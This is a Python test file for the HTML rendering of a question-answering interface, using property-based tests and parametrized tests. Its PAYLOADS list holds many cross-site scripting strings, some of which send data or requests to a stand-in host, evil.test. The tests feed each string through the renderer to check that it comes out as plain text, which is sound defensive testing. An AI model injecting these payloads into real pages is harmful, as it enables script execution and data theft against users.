from __future__ import annotations

from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qa.records import Answer, Article, Citation, Reason, Sentence, Span, Support
from qa.ui.conversation import MOST_EXCHANGES, Exchange, add, begin, turns
from qa.ui.markup import escape, showable
from qa.ui.reading import articles_html, paragraphs
from qa.ui.render import confidence_words, conversation_html, latest_html, reason_words

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=http://evil.test/a.png>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=http://evil.test><input name=password></form>",
    "<button formaction=http://evil.test>go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<video poster=http://evil.test/p.png></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=http://evil.test></object>",
    "<embed src=http://evil.test>",
    "<link rel=stylesheet href=http://evil.test/s.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "<base href=http://evil.test/>",
    "<style>@import 'http://evil.test/s.css'</style>",
    "<p style='background:url(http://evil.test/b.png)'>x</p>",
    "<table background=http://evil.test/b.png>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script/>",
    "</p></div></section><script>alert(1)</script>",
    "</mark></article></div><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<a ping=http://evil.test href=#>x</a>",
    "<img srcset='http://evil.test/a.png 2x'>",
    "![pixel](http://evil.test/a.png)",
    "![pixel][r]\n\n[r]: http://evil.test/a.png",
    "[link](javascript:alert(1))",
    "<http://evil.test/auto>",
    "[![x](http://evil.test/a.png)](http://evil.test)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '<mark data-citation="1">false</mark>',
    '<div data-status="answered">false</div>',
    '<div id="article">false</div>',
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "`${alert(1)}`",
    "\u202e\u2066reversed\u2069",
    "\x00<script>\x00alert(1)</script>",
    "\ud800<b>\udfff",
]
OURS = {
    "article": {"class"},
    "blockquote": {"dir"},
    "button": {"type", "class", "data-answer", "data-citation", "data-number", "data-quote"}
    | {"hidden", "aria-label"},
    "div": {"id", "class", "data-focus", "role", "tabindex", "aria-label", "aria-live"}
    | {"data-status", "aria-busy"},
    "figcaption": set(),
    "form": {"class", "hidden"},
    "figure": {"class"},
    "h2": {"dir"},
    "h3": {"class", "dir"},
    "mark": {"class", "data-answer", "data-citation"},
    "p": {"class", "dir", "role"},
    "section": {"class", "data-exchange"},
    "span": {"class", "data-answer", "data-trace"},
    "textarea": {"rows", "dir", "aria-label"},
}


class Parsed(HTMLParser):
    """The elements and the text of a piece of HTML; fails on an element or attribute not ours.

    The numbers and tags that the page adds to an answer's sentences are not counted as its text.
    """

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self._open: list[int] = []
        self.feed(html)
        self.close()
        assert self._open == [], "an element was not closed"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert {name for name, _ in attrs} <= OURS[tag]
        self._open.append(len(self.elements))
        self.elements.append((tag, dict(attrs)))
        self.texts.append("")

    def handle_endtag(self, tag: str) -> None:
        assert self.elements[self._open.pop()][0] == tag

    def handle_data(self, data: str) -> None:
        added = [at for at in self._open if self.elements[at][1].get("class") in {"cite", "tag"}]
        for element in added or self._open:
            self.texts[element] += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl!r}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data!r}")

    def of(self, tag: str, **attributes: str) -> list[str]:
        """Return the texts of the elements with a tag and attributes, in order."""
        wanted = {name.replace("_", "-"): value for name, value in attributes.items()}
        return [
            text
            for (found, has), text in zip(self.elements, self.texts, strict=True)
            if found == tag and wanted.items() <= has.items()
        ]


def article(text: str, title: str = "A title") -> Article:
    # Not Article.from_text: halves of surrogates have no hash, and must still not break the page.
    return Article(id=str(hash(text)), title=title, source="a.txt", text=text)


def answer(text: str = "Yes.", **fields: object) -> Answer:
    made: dict[str, object] = {"question": "q", "searched_for": "q", "status": "answered"}
    return Answer(text=text, **{**made, **fields})  # type: ignore[arg-type]


words = (
    st.text(alphabet=st.sampled_from("ab<>&\"'/\n #\x00\ud800é日\u202e"), max_size=60) | st.text()
)


@st.composite
def cited_articles(draw: st.DrawFn) -> tuple[Article, list[Citation]]:
    text = draw(words.filter(lambda text: text != ""))
    made = article(text, draw(words))
    edges = st.integers(0, len(text))
    spans = draw(st.lists(st.tuples(edges, edges).filter(lambda s: s[0] != s[1]), max_size=6))
    return made, [
        Citation.cut(made, Span(start=min(span), end=max(span)), number=number)
        for number, span in enumerate(spans, 1)
    ]


@st.composite
def answers(draw: st.DrawFn) -> Answer:
    made, citations = draw(cited_articles())
    text = draw(words)
    edges = sorted(draw(st.sets(st.integers(0, len(text)), max_size=5)))
    numbers = st.lists(st.sampled_from([c.number for c in citations] or [0]), max_size=3)
    sentences = [
        Sentence(
            start=start,
            end=end,
            support=draw(st.sampled_from(("supported", "partly", "unsupported"))),
            citations=tuple(draw(numbers)) if citations else (),
        )
        for start, end in pairwise(edges)
    ]
    status = draw(st.sampled_from(("draft", "answered", "abstained")))
    closest = Citation.cut(made, Span(start=0, end=len(made.text)), number=0)
    return Answer(
        question=draw(words),
        searched_for=draw(words),
        text=text,
        status=status,
        reason=Reason.DECLINED if status == "abstained" else Reason.NONE,
        confidence=draw(st.floats(0, 1)),
        sentences=tuple(sentences),
        citations=tuple(citations),
        closest=closest if status == "abstained" else None,
    )


@given(words)
def test_escaped_text_is_shown_as_it_is_between_tags_and_in_an_attribute(text: str) -> None:
    parsed = Parsed(f'<p class="{escape(text)}">{escape(text)}</p>')
    assert parsed.elements == [("p", {"class": showable(text)})]
    assert parsed.texts == [showable(text)]


@given(words)
def test_showing_a_text_keeps_every_offset(text: str) -> None:
    assert len(showable(text)) == len(text)
    showable(text).encode()


@given(words)
def test_paragraphs_hold_all_but_white_space_in_order(text: str) -> None:
    spans = list(paragraphs(text))
    assert all(a.end < b.start for a, b in pairwise(spans))
    assert [text[s.start : s.end].strip() for s in spans] == [text[s.start : s.end] for s in spans]
    shown = "".join(text[span.start : span.end] for span in spans)
    assert "".join(shown.split()) == "".join(text.split())


def test_lines_are_paragraphs_unless_blank_lines_part_them() -> None:
    assert [(s.start, s.end) for s in paragraphs("ab\ncd\n")] == [(0, 2), (3, 5)]
    assert [(s.start, s.end) for s in paragraphs("ab\ncd\n \n\n ef \n")] == [(0, 5), (10, 12)]


@given(cited_articles(), st.booleans())
def test_the_marks_of_a_citation_hold_its_words(
    cited: tuple[Article, list[Citation]], is_last: bool
) -> None:
    made, citations = cited
    asked = add((), Exchange(position=1, question="q", answer=answer(citations=tuple(citations))))
    later = asked if is_last else add(asked, Exchange(position=2, question="r"))
    parsed = Parsed(articles_html([made], later))
    for citation in citations:
        shown = [
            made.text[max(span.start, citation.start) : min(span.end, citation.end)]
            for span in paragraphs(made.text)
        ]
        number = str(citation.number)
        marks = parsed.of("mark", data_citation=number)
        traces = parsed.of("span", data_trace=number)
        assert "".join(marks if is_last else traces) == showable("".join(shown))
        assert (traces if is_last else marks) == []


@given(cited_articles())
def test_the_article_is_shown_whole_whatever_is_marked(
    cited: tuple[Article, list[Citation]],
) -> None:
    made, citations = cited
    asked = (Exchange(position=1, question="q", answer=answer(citations=tuple(citations))),)
    shown = "".join(made.text[span.start : span.end] for span in paragraphs(made.text))
    text = Parsed(articles_html([made], asked)).of("article")[0]
    assert text.endswith(showable(shown))
    assert text.removesuffix(showable(shown)) in {"", showable(made.title.strip())}


@given(answers(), words, st.booleans())
def test_an_exchange_is_only_our_elements_and_the_latest_has_its_status(
    made: Answer, question: str, latest: bool
) -> None:
    exchange = Exchange(position=3, question=question, answer=made)
    parsed = Parsed(latest_html((exchange,)) if latest else conversation_html((exchange,)))
    assert parsed.of("h3") == [showable(question)]
    states = [has["data-status"] for _, has in parsed.elements if "data-status" in has]
    assert states == [made.status] * latest


@given(answers().filter(lambda made: made.status == "answered"))
def test_an_answer_is_shown_whole_with_the_numbers_of_each_sentence(made: Answer) -> None:
    parsed = Parsed(latest_html((Exchange(position=3, question="q", answer=made),)))
    assert parsed.of("p", **{"class": "said"})[0] == showable(made.text)
    numbers = [str(number) for sentence in made.sentences for number in sentence.citations]
    links = [has for _, has in parsed.elements if has.get("class") == "cite"]
    assert [has["data-citation"] for has in links] == numbers
    quotes = {str(citation.number): showable(citation.text) for citation in made.citations}
    assert [has["data-quote"] for has in links] == [quotes[number] for number in numbers]
    assert {has["data-answer"] for has in links} <= {"3"}


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("status", ["draft", "answered", "abstained"])
def test_markup_from_anywhere_is_shown_as_text(payload: str, status: str) -> None:
    made = article(f"Before. {payload}\nAfter.", title=payload)
    cited = Citation.cut(made, Span(start=0, end=len(made.text)), number=1)
    said = answer(
        payload,
        status=status,
        question=payload,
        searched_for=f"{payload} again",
        reason={"abstained": Reason.DECLINED}.get(status, Reason.NONE),
        sentences=(Sentence(start=0, end=len(payload), support="supported", citations=(1,)),),
        citations=(cited,),
        closest=cited,
    )
    asked = (
        Exchange(position=1, question=payload, notice=payload),
        Exchange(position=2, question=payload, answer=said, stopped=status == "draft"),
        Exchange(position=3, question=payload, answer=said, searched_for=payload),
    )
    page = conversation_html(asked) + latest_html(asked) + articles_html([made], asked)
    parsed = Parsed(page)
    assert parsed.of("p", **{"class": "notice"}) == [showable(payload)]
    assert parsed.of("h3") == [showable(payload)] * 4


def test_each_support_is_said_in_words() -> None:
    said: tuple[Support, ...] = ("supported", "partly", "unsupported")
    sentences = tuple(
        Sentence(start=at, end=at + 1, support=support, citations=())
        for at, support in enumerate(said)
    )
    exchange = Exchange(position=1, question="q", answer=answer("abc", sentences=sentences))
    assert Parsed(latest_html((exchange,))).of("span", **{"class": "tag"}) == [
        "only partly supported",
        "not supported by the article",
    ]


def test_a_mark_that_crosses_another_is_split_and_one_inside_it_is_not() -> None:
    made = article("abcdefgh")
    spans = [(0, 4), (2, 6), (7, 8)]
    cited = tuple(
        Citation.cut(made, Span(start=start, end=end), number=number)
        for number, (start, end) in enumerate(spans, 1)
    )
    html = articles_html(
        [made], (Exchange(position=1, question="q", answer=answer(citations=cited)),)
    )
    parsed = Parsed(html)
    # 1 holds abcd and, inside, the first half of 2; the other half of 2 stands by itself.
    assert parsed.of("mark", data_citation="1") == ["abcd"]
    assert parsed.of("mark", data_citation="2") == ["cd", "ef"]
    assert parsed.of("mark", data_citation="3") == ["h"]


def test_marks_stay_whole_where_an_earlier_answer_cited_other_words() -> None:
    made = article("abcdef")
    first = answer(citations=(Citation.cut(made, Span(start=0, end=4), number=1),))
    second = answer(citations=(Citation.cut(made, Span(start=2, end=6), number=1),))
    asked = (
        Exchange(position=1, question="q", answer=first),
        Exchange(position=2, question="q", answer=second),
    )
    parsed = Parsed(articles_html([made], asked))
    assert parsed.of("mark") == ["cdef"]
    assert parsed.of("span") == ["ab", "cd"]


def test_each_article_has_its_own_marks_under_its_own_title() -> None:
    one, other = article("The title\nab ab", "The title"), article("ab ab", "Another title")
    said = answer(citations=(Citation.cut(other, Span(start=3, end=5), number=1),))
    html = articles_html([one, other], (Exchange(position=1, question="q", answer=said),))
    parsed = Parsed(html)
    assert parsed.of("h2") == ["The title", "Another title"]
    assert parsed.of("article") == ["The titleab ab", "Another titleab ab"]
    assert parsed.of("mark") == ["ab"]
    assert html.index("<mark") > html.index("Another title")


def test_a_line_of_hashtags_is_quiet() -> None:
    parsed = Parsed(articles_html([article("A line.\n#one #two\n# three")], ()))
    assert parsed.of("p", **{"class": "tags"}) == ["#one #two"]


def test_what_was_searched_for_is_shown_only_when_it_differs() -> None:
    same = Exchange(position=1, question="q", answer=answer())
    other = Exchange(position=1, question="q", answer=answer(searched_for="q of the boats"))
    assert Parsed(latest_html((same,))).of("p", **{"class": "searched"}) == []
    for shown in (latest_html((other,)), conversation_html((other,))):
        assert Parsed(shown).of("p", **{"class": "searched"}) == ["Searched for: q of the boats"]


def test_what_was_searched_for_can_be_changed_under_the_last_answer_once_it_is_there() -> None:
    def fields(shown: str) -> list[str]:
        return Parsed(shown).of("textarea")

    said = answer(searched_for="q of the boats")
    draft = answer(searched_for="q of the boats", status="draft")
    there = Exchange(position=1, question="q", answer=said)
    assert fields(latest_html((there,))) == ["q of the boats"]
    assert fields(conversation_html((there,))) == []
    assert fields(latest_html((Exchange(position=1, question="q", answer=draft),))) == []


def test_words_that_a_person_gave_are_kept_whatever_came_of_them() -> None:
    came = (
        Exchange(position=1, question="q", answer=answer(), searched_for="q"),
        Exchange(position=1, question="q", notice="No.", searched_for="q"),
        Exchange(position=1, question="q", stopped=True, searched_for="q"),
    )
    for exchange in came:
        assert Parsed(latest_html((exchange,))).of("textarea") == ["q"]
    waiting = Exchange(position=1, question="q", searched_for="q")
    assert Parsed(latest_html((waiting,))).of("p", **{"class": "searched"}) == ["Searched for: q"]
    assert Parsed(latest_html((waiting,))).of("textarea") == []


def test_confidence_is_said_in_words_and_in_percent() -> None:
    shown = [confidence_words(confidence) for confidence in (1.0, 0.9, 0.75, 0.5, 0.49)]
    assert shown == [
        "Very likely right",
        "Very likely right",
        "Likely right",
        "Probably right",
        "Uncertain",
    ]
    html = latest_html((Exchange(position=1, question="q", answer=answer(confidence=0.934)),))
    assert Parsed(html).of("p", **{"class": "confidence is-very"}) == [
        "Very likely right (confidence about 93%)"
    ]


def test_each_reason_to_withhold_has_its_own_words() -> None:
    words = {
        reason: reason_words(
            answer(
                status="answered" if reason is Reason.NONE else "abstained",
                reason=reason,
                confidence=0.254,
            )
        )
        for reason in Reason
    }
    assert len(set(words.values())) == len(Reason)
    assert "only about 25% likely to be right" in words[Reason.UNSURE]


@pytest.mark.parametrize(
    ("reason", "confidence", "label"),
    [
        (Reason.UNSURE, 0.3, "Not clearly in the article"),
        (Reason.UNSURE, 0.02, "Not in the article"),
        (Reason.DECLINED, 0.0, "Not in the article"),
    ],
)
def test_only_what_may_well_have_been_right_is_not_clearly_there(
    reason: Reason, confidence: float, label: str
) -> None:
    withheld = answer(status="abstained", reason=reason, confidence=confidence)
    html = latest_html((Exchange(position=1, question="q", answer=withheld),))
    assert Parsed(html).of("p", **{"class": "label"}) == [label]


def test_a_stopped_draft_counts_as_withheld_and_says_so() -> None:
    draft = answer("Half an", status="draft")
    for written in (draft, None):
        exchange = Exchange(position=1, question="q", answer=written, stopped=True)
        parsed = Parsed(latest_html((exchange,)))
        assert parsed.of("p", **{"class": "label"}) == ["Stopped"]
        assert len(parsed.of("div", data_status="abstained")) == 1


def test_history_is_the_finished_answers_and_positions_go_on() -> None:
    asked = (
        Exchange(position=1, question="a", answer=answer("A.")),
        Exchange(position=2, question="b", notice="No."),
        Exchange(position=3, question="c", answer=answer("C", status="draft"), stopped=True),
    )
    assert [(turn.question, turn.answer) for turn in turns(asked)] == [("a", "A.")]
    meant = Exchange(position=1, question="And it?", answer=answer("A."), searched_for="And a?")
    assert [(turn.question, turn.answer) for turn in turns((meant,))] == [("And a?", "A.")]
    assert begin(asked, "d") == Exchange(position=4, question="d")
    assert begin((), "d") == Exchange(position=1, question="d")


def test_a_long_conversation_forgets_its_oldest_exchange() -> None:
    asked: tuple[Exchange, ...] = ()
    for _ in range(MOST_EXCHANGES + 2):
        asked = add(asked, begin(asked, "q"))
    assert [exchange.position for exchange in asked] == list(range(3, MOST_EXCHANGES + 3))
